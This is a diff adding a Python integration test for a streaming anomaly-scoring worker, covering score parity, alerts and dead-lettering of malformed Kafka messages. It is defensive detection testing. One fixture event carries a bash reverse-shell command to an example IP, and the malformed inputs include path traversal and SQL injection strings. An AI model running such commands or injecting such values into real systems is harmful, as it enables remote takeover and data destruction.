@@ -1,0 +1,65 @@
+"""The Faust worker against the real broker and LanceDB: scores, alerts, dead letters."""
+
+from __future__ import annotations
+
+import json
+import random
+from pathlib import Path
+
+from ruleless.kafka import producer
+from ruleless.settings import Settings
+from schemas.events import decode_scored, encode
+from streams.scoring import ScoringService
+from tests.factories import event, fleet_stream
+from tests.processes import drain, ruleless_process
+
+MALFORMED = [
+    b"not json at all",
+    b"",
+    b"[1, 2, 3]",
+    b'{"ts": "yesterday", "org_id": "acme", "workload": "web"}',
+    b'{"ts": 1.0, "workload": "web"}',
+    b'{"ts": 1.0, "org_id": "../../etc", "workload": "web"}',
+    b'{"ts": 1.0, "org_id": "acme", "workload": "web; DROP TABLE x"}',
+    b'{"ts": 1.0, "org_id": "acme", "workload": "web", "pid": -5}',
+    b"\xff\xfe\x00garbage",
+    b'{"ts": 1.0, "org_id": "acme", "workload": "web", "local_port": 70000}',
+]
+
+
+def test_worker_scores_like_the_offline_engine_and_dead_letters_bad_input(
+    topics: Settings, tmp_path: Path
+) -> None:
+    events = fleet_stream(pairs=20, per_pair=500, seed=1)
+    events.append(event(ts=events[-1].ts + 1, cmdline="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
+    rng = random.Random(7)
+    messages: list[tuple[bytes, bytes]] = [(e.shard_key.encode(), encode(e)) for e in events]
+    for i in range(1000):
+        messages.insert(rng.randrange(len(messages)), (b"acme/web", MALFORMED[i % len(MALFORMED)]))
+
+    with ruleless_process(topics, "worker", log=tmp_path / "worker.log"):
+        prod = producer(topics.kafka)
+        for key, value in messages:
+            prod.produce(topics.topics.raw, key=key, value=value)
+        assert prod.flush(60) == 0
+        t = topics.topics
+        got = drain(
+            topics, [t.scored, t.alerts, t.dead_letter],
+            lambda g: len(g[t.scored]) >= len(events) and len(g[t.dead_letter]) >= 1000,
+        )
+
+    scored = {s.event_id: s for s in map(decode_scored, got[t.scored])}
+    assert len(got[t.scored]) == len(events) and len(scored) == len(events)
+
+    offline = ScoringService(topics.model_copy(update={"lancedb": topics.lancedb.model_copy(update={"uri": str(tmp_path / "offline")})}))
+    expected = {s.event_id: s.score for s in offline.score(events)}
+    assert {k: v.score for k, v in scored.items()} == expected
+
+    alerts = [decode_scored(m) for m in got[t.alerts]]
+    assert sorted(a.event_id for a in alerts) == sorted(k for k, v in scored.items() if v.severity != "ok")
+    assert scored[events[-1].event_id].severity == "alert"
+
+    dead = [json.loads(m) for m in got[t.dead_letter]]
+    assert len(dead) == 1000
+    assert all(d["reason"] and d["stage"] == "worker" and d["topic"] == t.raw for d in dead)
+    assert any("org_id" in d["reason"] for d in dead)
